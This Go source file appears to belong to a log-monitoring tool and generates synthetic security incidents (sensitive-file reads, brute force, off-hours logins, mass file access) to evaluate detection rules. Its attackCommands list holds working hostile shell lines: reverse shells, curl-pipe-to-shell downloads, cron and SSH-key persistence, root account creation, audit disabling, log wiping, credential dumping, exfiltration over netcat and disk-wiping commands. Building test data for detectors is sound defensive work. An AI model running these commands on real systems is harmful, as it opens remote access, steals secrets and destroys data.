package generator

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"

	"github.com/logwarden/logwarden/pkg/logparse"
)

// Scenario names, as they appear in Label.Scenario and in evaluation reports.
const (
	ScenarioSensitiveFile      = "sensitive_file"
	ScenarioSensitiveFileBurst = "sensitive_file_burst"
	ScenarioDangerousCommand   = "dangerous_command"
	ScenarioBruteForce         = "brute_force"
	ScenarioNewFarIP           = "new_far_ip"
	ScenarioOffHours           = "off_hours"
	ScenarioMassFileAccess     = "mass_file_access"
)

// scenario builds the lines of one incident starting at t. weight is its relative chance
// of being picked: small incidents are picked more often so each scenario gets a fair
// number of incidents while big ones do not eat the whole anomaly budget.
type scenario struct {
	name   string
	weight float64
	build  func(g *Generator, t time.Time) []Event
}

var allScenarios = []*scenario{
	{ScenarioSensitiveFile, 3, buildSensitiveFile},
	{ScenarioSensitiveFileBurst, 2, buildSensitiveFileBurst},
	{ScenarioDangerousCommand, 3, buildDangerousCommand},
	{ScenarioBruteForce, 1.2, buildBruteForce},
	{ScenarioNewFarIP, 2, buildNewFarIP},
	{ScenarioOffHours, 2, buildOffHours},
	{ScenarioMassFileAccess, 0.6, buildMassFileAccess},
}

// Scenarios lists every scenario name.
func Scenarios() []string {
	out := make([]string, len(allScenarios))
	for i, s := range allScenarios {
		out[i] = s.name
	}
	return out
}

func scenarioByName(name string) *scenario {
	for _, s := range allScenarios {
		if s.name == name {
			return s
		}
	}
	return nil
}

// SensitiveFiles are the files whose reading is an incident; "%u" is the reader's name.
// Normal traffic never touches them.
var SensitiveFiles = []string{
	"/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/sudoers.d/90-cloud-init-users",
	"/home/%u/.ssh/id_rsa", "/home/%u/.ssh/id_ed25519", "/root/.ssh/id_rsa", "/root/.ssh/authorized_keys",
	"/root/.bash_history", "/home/%u/.aws/credentials", "/srv/app/.env", "/opt/billing/.env",
	"/etc/ssl/private/server.key", "/opt/certs/prod-tls.pem", "/home/%u/.kube/config",
}

// attackCommands are the generator's own attack command lines, one family per group,
// written for the tutorial independently of the classifier's rules and their examples
// (so an evaluation on generated data measures how the rules generalise). Placeholders:
// %ip/%port an attacker's address, %name a fake account, %u the acting user, %tmp a
// staging directory, %bin an implant name, %b64 a base64-encoded download-and-run.
var attackCommands = []string{
	// reverse shells
	"bash -i >& /dev/tcp/%ip/%port 0>&1",
	"bash -c 'exec bash -i &>/dev/tcp/%ip/%port <&1'",
	"nc -e /bin/sh %ip %port",
	"ncat --sh-exec /bin/bash %ip %port",
	"rm %tmp/p;mkfifo %tmp/p;cat %tmp/p|/bin/sh -i 2>&1|nc %ip %port >%tmp/p",
	`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("%ip",%port));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
	`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(%port,inet_aton("%ip")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/bash -i")'`,
	"socat exec:'sh -li',pty,stderr tcp:%ip:%port",
	// download and run, decode and run
	"curl -fsSL http://%ip/install.sh | sh",
	"wget -qO- http://%ip:%port/x.sh | bash",
	"curl -so %tmp/%bin http://%ip/%bin && chmod +x %tmp/%bin && %tmp/%bin",
	"echo %b64 | base64 -d | bash",
	// persistence
	"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHf0rb1dd3n %name@%ip' >> /root/.ssh/authorized_keys",
	"echo '*/15 * * * * root %tmp/%bin' > /etc/cron.d/%bin",
	"(crontab -l; echo '@reboot %tmp/%bin') | crontab -",
	"echo '%tmp/%bin &' >> /home/%u/.bashrc",
	"cp %tmp/%bin.service /etc/systemd/system/ && systemctl enable %bin.service",
	"echo %tmp/%bin.so > /etc/ld.so.preload",
	// privilege escalation
	"chmod u+s /bin/bash",
	"chmod 4755 %tmp/%bin",
	"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash %name",
	"usermod -aG sudo %name",
	"echo '%name ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
	"setcap cap_setuid+ep /usr/bin/python3",
	// defence impairment
	"iptables -F",
	"systemctl stop auditd",
	"setenforce 0",
	"ufw disable",
	"echo 0 > /proc/sys/kernel/randomize_va_space",
	"insmod %tmp/%bin.ko",
	// covering tracks
	"shred -u /var/log/auth.log",
	"truncate -s 0 /var/log/syslog",
	"rm -f /home/%u/.bash_history",
	// credential access
	"cat /etc/shadow",
	"grep -ri password /etc /home",
	"find / -name id_rsa 2>/dev/null",
	"kubectl get secrets -A -o yaml",
	// exfiltration, impact
	"tar czf - /home/%u | nc %ip %port",
	"%tmp/xmrig -o stratum+tcp://%ip:%port -u %name",
	"chmod 777 /etc/passwd",
	"rm -rf --no-preserve-root /",
	"dd if=/dev/zero of=/dev/sda bs=1M",
}

// stagingDirs and implantNames fill %tmp and %bin.
var (
	stagingDirs  = []string{"/tmp", "/var/tmp", "/dev/shm", "/tmp/.cache", "/var/tmp/.x"}
	implantNames = []string{"kworker", "dbus-daemon", "sshd2", "update", "syslogd", ".x", "kthreadd"}
)

// coverTracks precede another dangerous command in a third of dangerous_command incidents.
var coverTracks = []string{"history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "set +o history", "HISTSIZE=0"}

var bruteForceNames = []string{"root", "admin", "test", "oracle", "ubuntu", "postgres", "git", "deploy"}

func (g *Generator) jitter(min, max time.Duration) time.Duration {
	return min + time.Duration(g.rng.Int64N(int64(max-min)+1))
}

// actor picks a user at work at t, preferably one with an open session (logged in within
// the last 2 hours), and the IP of that session (else the user's first usual IP).
func (g *Generator) actor(t time.Time) (*User, string) {
	i := g.pickActive(t)
	for try := 0; try < 20; try++ {
		s := g.sessions[i]
		if s.ip != "" && s.remaining > 0 && t.Sub(s.last) <= 2*time.Hour {
			break
		}
		i = g.pickActive(t)
	}
	u := g.users[i]
	if ip := g.sessions[i].ip; ip != "" {
		return u, ip
	}
	return u, u.IPs[0]
}

func (g *Generator) farIP() string {
	return randIP(farRanges[g.rng.IntN(len(farRanges))], g.rng)
}

func (g *Generator) sensitive(u *User) string {
	return strings.ReplaceAll(SensitiveFiles[g.rng.IntN(len(SensitiveFiles))], "%u", u.Name)
}

func buildSensitiveFile(g *Generator, t time.Time) []Event {
	u, ip := g.actor(t)
	return []Event{{Time: t.Add(g.jitter(time.Second, 30*time.Second)), IP: ip, User: u.Name,
		Action: logparse.ActionFileAccess, Target: g.sensitive(u)}}
}

func buildSensitiveFileBurst(g *Generator, t time.Time) []Event {
	u, ip := g.actor(t)
	n := 3 + g.rng.IntN(6)
	perm := g.rng.Perm(len(SensitiveFiles))
	out := make([]Event, 0, n)
	for i := 0; i < n; i++ {
		t = t.Add(g.jitter(2*time.Second, 15*time.Second))
		out = append(out, Event{Time: t, IP: ip, User: u.Name, Action: logparse.ActionFileAccess,
			Target: strings.ReplaceAll(SensitiveFiles[perm[i]], "%u", u.Name)})
	}
	return out
}

func buildDangerousCommand(g *Generator, t time.Time) []Event {
	u, ip := g.actor(t)
	t = t.Add(g.jitter(time.Second, 30*time.Second))
	var out []Event
	if g.rng.IntN(3) == 0 {
		out = append(out, Event{Time: t, IP: ip, User: u.Name, Action: logparse.ActionCommand,
			Target: coverTracks[g.rng.IntN(len(coverTracks))]})
		t = t.Add(g.jitter(5*time.Second, 60*time.Second))
	}
	cmd := g.attackCommand(u)
	return append(out, Event{Time: t, IP: ip, User: u.Name, Action: logparse.ActionCommand, Target: cmd})
}

// attackCommand draws an attack command line and fills its placeholders. It takes as
// many numbers from the generator's source, in the same order, as the scenario always
// did (command, address, port, account), so the rest of a seed's dataset is unchanged;
// the staging directory and implant name derive from the port.
func (g *Generator) attackCommand(u *User) string {
	cmd := attackCommands[g.rng.IntN(len(attackCommands))]
	ip := g.farIP()
	p := 1024 + g.rng.IntN(60000)
	name := bruteForceNames[g.rng.IntN(len(bruteForceNames))] + fmt.Sprint(g.rng.IntN(100))
	tmp := stagingDirs[p%len(stagingDirs)]
	bin := implantNames[(p/len(stagingDirs))%len(implantNames)]
	inner := fmt.Sprintf("curl -s http://%s/%s | sh", ip, bin)
	return strings.NewReplacer("%ip", ip, "%port", fmt.Sprint(p), "%tmp", tmp, "%bin", bin, "%name", name, "%u", u.Name,
		"%b64", base64.StdEncoding.EncodeToString([]byte(inner))).Replace(cmd)
}

func buildBruteForce(g *Generator, t time.Time) []Event {
	name := bruteForceNames[g.rng.IntN(len(bruteForceNames))]
	if g.rng.IntN(10) < 7 {
		u, _ := g.actor(t)
		name = u.Name
	}
	ip := g.farIP()
	n := 10 + g.rng.IntN(31)
	out := make([]Event, 0, n+1)
	for i := 0; i < n; i++ {
		t = t.Add(g.jitter(time.Second, 6*time.Second))
		out = append(out, Event{Time: t, IP: ip, User: name, Action: logparse.ActionLoginFailed})
	}
	if g.rng.IntN(10) < 4 {
		t = t.Add(g.jitter(2*time.Second, 10*time.Second))
		out = append(out, Event{Time: t, IP: ip, User: name, Action: logparse.ActionLogin})
	}
	return out
}

// ordinaryActions are n actions from the user's own habits, spaced by gap bounds.
func (g *Generator) ordinaryActions(u *User, ip string, t time.Time, n int, minGap, maxGap time.Duration) []Event {
	out := make([]Event, 0, n)
	for i := 0; i < n; i++ {
		t = t.Add(g.jitter(minGap, maxGap))
		ev := Event{Time: t, IP: ip, User: u.Name}
		switch g.rng.IntN(3) {
		case 0:
			ev.Action, ev.Target = logparse.ActionFileAccess, u.Files[g.rng.IntN(len(u.Files))]
		case 1:
			ev.Action, ev.Target = logparse.ActionDirAccess, u.Dirs[g.rng.IntN(len(u.Dirs))]
		default:
			ev.Action, ev.Target = logparse.ActionCommand, u.Commands[g.rng.IntN(len(u.Commands))]
		}
		out = append(out, ev)
	}
	return out
}

func buildNewFarIP(g *Generator, t time.Time) []Event {
	u, _ := g.actor(t)
	ip := g.farIP()
	t = t.Add(g.jitter(time.Second, 30*time.Second))
	out := []Event{{Time: t, IP: ip, User: u.Name, Action: logparse.ActionLogin}}
	return append(out, g.ordinaryActions(u, ip, t, 2+g.rng.IntN(4), 10*time.Second, 90*time.Second)...)
}

func buildOffHours(g *Generator, t time.Time) []Event {
	// Prefer a user for whom it is the middle of the night right now; else pick anyone and
	// wait for their night.
	var cands []*User
	for _, u := range g.users {
		if u.FarOff(t, 3*time.Hour) {
			cands = append(cands, u)
		}
	}
	var u *User
	start := t.Add(g.jitter(time.Second, 60*time.Second))
	if len(cands) > 0 {
		u = cands[g.rng.IntN(len(cands))]
	} else {
		u = g.users[g.rng.IntN(len(g.users))]
		for i := 0; i < 48 && !u.FarOff(start, 3*time.Hour); i++ {
			start = start.Add(time.Hour)
		}
	}
	ip := u.IPs[g.rng.IntN(len(u.IPs))]
	out := []Event{{Time: start, IP: ip, User: u.Name, Action: logparse.ActionLogin}}
	return append(out, g.ordinaryActions(u, ip, start, 3+g.rng.IntN(6), 20*time.Second, 180*time.Second)...)
}

func buildMassFileAccess(g *Generator, t time.Time) []Event {
	u, ip := g.actor(t)
	n := 50 + g.rng.IntN(151)
	out := make([]Event, 0, n)
	dept := departments[g.rng.IntN(len(departments))]
	for i := 0; i < n; i++ {
		t = t.Add(g.jitter(200*time.Millisecond, 2500*time.Millisecond))
		name := fmt.Sprintf("/srv/share/%s/%s-%03d.%s", dept, []string{"contract", "invoice", "customer", "payroll", "design", "roadmap"}[g.rng.IntN(6)],
			i, fileExts[g.rng.IntN(len(fileExts))])
		out = append(out, Event{Time: t, IP: ip, User: u.Name, Action: logparse.ActionFileAccess, Target: name})
	}
	return out
}
